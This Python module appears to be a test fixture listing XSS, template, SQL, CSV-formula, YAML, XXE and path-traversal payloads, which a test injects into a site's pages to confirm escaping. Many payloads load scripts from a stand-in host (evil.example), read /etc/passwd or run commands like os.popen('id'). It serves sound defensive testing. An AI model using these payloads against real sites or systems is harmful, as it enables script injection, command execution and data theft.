"""Texts that would run a script or ask another host, if any place of a site took them for more.

Each calls a function of its own number or asks a host of its own, so that what got through says
which it was: ``RUN`` and ``HOST`` represent the two.
"""

from __future__ import annotations

FUNCTION = "yesanRan"
"""What each text calls: a test puts it into every page."""
DOMAIN = "evil.example"
SCRIPTS = (
    "<script>RUN</script>",
    "<SCRIPT SRC=https://HOST/x.js></SCRIPT>",
    "<script type=module>RUN</script>",
    '<script src="data:text/javascript,RUN"></script>',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://HOST/"]}]}</script>',
    '<script type="importmap">{"imports":{"x":"https://HOST/x.js"}}</script>',
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\x0c>RUN</script\x0c>",
    "<script/x>RUN</script/x>",
    "</script><script>RUN</script>",
    "</textarea></title></style></noscript></template></xmp><script>RUN</script>",
    "\u2028RUN//\u2029</script\u2028><script>RUN</script>",
    "<template shadowrootmode=open><script>RUN</script></template>",
)
HANDLERS = (
    "<img src=x onerror=RUN>",
    '<IMG """><SCRIPT>RUN</SCRIPT>">',
    "<img src='x' onerror='RUN'>",
    "<img src=`x` onerror=`RUN`>",
    "<img/src=x/onerror=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<video src=https://HOST/x.mp4 autoplay onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<body onload=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<a tabindex=1 onfocus=RUN autofocus onclick=RUN>x</a>",
    "<p style=animation-name:x onanimationstart=RUN onpointerenter=RUN>x</p>",
    "<select onfocus=RUN autofocus><option>x</select>",
    "<button popovertarget=x onclick=RUN>x</button><div popover id=x onbeforetoggle=RUN>x</div>",
    '" onmouseover="RUN" onfocus="RUN" autofocus x="',
    "' onmouseover='RUN' onfocus='RUN' autofocus x='",
    "x onmouseover=RUN onfocus=RUN autofocus",
    "` onmouseover=RUN x=`",
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    "--><img src=x onerror=RUN><!--",
    "]]><img src=x onerror=RUN><![CDATA[",
)
ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN//https://x.example/",
    "java\tscript:RUN",
    "\x01javascript:RUN",
    "javascript&colon;RUN",
    "vbscript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "//HOST/x.js",
    "https://HOST/x.js",
    "<a href=javascript:RUN>x</a>",
    "<a href='java&#10;script:RUN' ping=https://HOST/>x</a>",
    "<iframe src=javascript:RUN></iframe>",
    '<iframe srcdoc="<script>RUN</script><img src=https://HOST/x.png>"></iframe>',
    "<iframe src=https://HOST/></iframe>",
    "<object data=https://HOST/x.swf></object><embed src=https://HOST/x>",
    "<form action=https://HOST/><input name=x><button formaction=javascript:RUN>x</button></form>",
    "<base href=https://HOST/>",
    "<meta http-equiv=refresh content=0;url=https://HOST/>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=https://HOST/x.css>",
    "<link rel='dns-prefetch preconnect prefetch prerender modulepreload search next' href=https://HOST/>",
    "<link rel=preload as=image imagesrcset=https://HOST/x.png href=https://HOST/x.png>",
    "<img src=https://HOST/x.png srcset='https://HOST/y.png 2x'>",
    "<picture><source srcset=https://HOST/x.webp><img src=https://HOST/x.png></picture>",
    "<table background=https://HOST/x.png><td background=https://HOST/y.png>x",
    "<img src='https://HOST/?",
    '<a href="https://HOST/?x=',
    "<img src=\"https://HOST/?x=<textarea>",
)  # fmt: skip
PICTURES = (
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=https://HOST/x.js /></svg>",
    "<svg><use href='https://HOST/x.svg#x'/></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='RUN'/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=RUN /><image href=https://HOST/x.png /></svg>",
    "<math><maction actiontype='statusline#' xlink:href=javascript:RUN>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=RUN></style>",
    "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">",
    '<text x="0"/></text></svg><svg onload="RUN"><text>',
)  # fmt: skip
STYLES = (
    "</style><style>@import 'https://HOST/x.css';</style>",
    "<style>body{background:url(https://HOST/x.png)}</style>",
    '<p style="background:url(https://HOST/x.png);width:expression(RUN)">x</p>',
    "red;background:url(https://HOST/x.png)",
    "url(https://HOST/x.svg#x)",
    "}*{background:url(https://HOST/x.png)}",
    "<style>@font-face{font-family:x;src:url(https://HOST/x.woff2)}*{font-family:x}</style>",
)
LANGUAGES = (
    "{{7*7}}{{ ''.__class__.__mro__ }}{% for x in range(9) %}x{% endfor %}{# x #}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7} #{7*7} <%= 7*7 %> @{7*7} [[7*7]] *{7*7}",
    "{title} {0.__class__} {count} %(title)s %s $title",
    "{{constructor.constructor('RUN')()}}",
    "[x](javascript:RUN) ![x](https://HOST/x.png) [y](<data:text/html,<script>RUN</script>>)",
    "<javascript:RUN> <https://HOST/> [r][1] [1]: javascript:RUN 'x'",
    "x{: onclick=RUN onmouseover=RUN style=background:url(https://HOST/x.png) }",
    "# x {#x onclick=RUN} [^1] [^1]: <img src=x onerror=RUN>",
    '--8<-- "/etc/passwd" !!! note "<img src=x onerror=RUN>"',
    "```{.html onclick=RUN} <script>RUN</script> ```",
    '![x](x "\\" onerror=\\"RUN")',
    "*[x]: <img src=x onerror=RUN> :material-x: $$x$$ ==x== ++x++",
    '"});RUN;({"',
    "'-RUN-'",
    "\\'-RUN//",
    '";RUN;//',
    "*/RUN/*",
    "'; SELECT * FROM read_text('/etc/passwd'); --",
    "=HYPERLINK(\"https://HOST/\",\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "datum['constructor']('RUN')() format(1,'<script>RUN</script>') 1/0",
    "!!python/object/apply:os.system ['id'] !ENV HOME *x &x <<: *x",
)  # fmt: skip
CHARACTERS = (
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;img src=x onerror=RUN&#62; &#x3c;script&#x3e;RUN&#x3c;/script&#x3e;",
    "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",  # full-width angle brackets
    "\u02b9 onfocus=RUN \uff02 \u201c onfocus=RUN",  # what looks like quotes
    "\u202e<img src=x onerror=RUN>\u202c\u2066\u200b\ufeff",
    "<\x00script>RUN</\x00script>",
    "<img\x00src=x\x0bonerror=RUN>\x1b[31m\x08\x7f",
    "<!--><img src=x onerror=RUN>-->",
    "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><x>&x;</x>",
    "<?xml-stylesheet href='https://HOST/x.xsl'?><?php RUN ?>",
    "<plaintext><!-- <textarea> <title> <script>",
    "<div id=__config>{\"base\":\"https://HOST\"}</div><img name=currentScript src=https://HOST/x>",
    "<a id=yesanRows href=javascript:RUN></a><form id=location><input name=body></form>",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "-1e999",
    "../../../etc/passwd%00",
    "\U0001f600 \U0001f468\u200d\U0001f469 \u0130\u0131\u017f\u212a " + "x" * 200,
    "W" * 1500,
)  # fmt: skip
ALL_AT_ONCE = (
    "'\"><img src=x onerror=RUN></title></style></textarea></script>--><script>RUN</script>{{7*7}}"
)
"""What breaks out of most places."""
TEXTS = (
    *(*SCRIPTS, *HANDLERS, *ADDRESSES, *PICTURES, *STYLES, *LANGUAGES, *CHARACTERS),
    ALL_AT_ONCE,
)
WORST = len(TEXTS) - 1


def text(number: int) -> str:
    """A text with what it calls and asks; they are numbered round and round."""
    number %= len(TEXTS)
    called = TEXTS[number].replace("RUN", f"{FUNCTION}({number})")
    return called.replace("HOST", f"n{number}.{DOMAIN}")
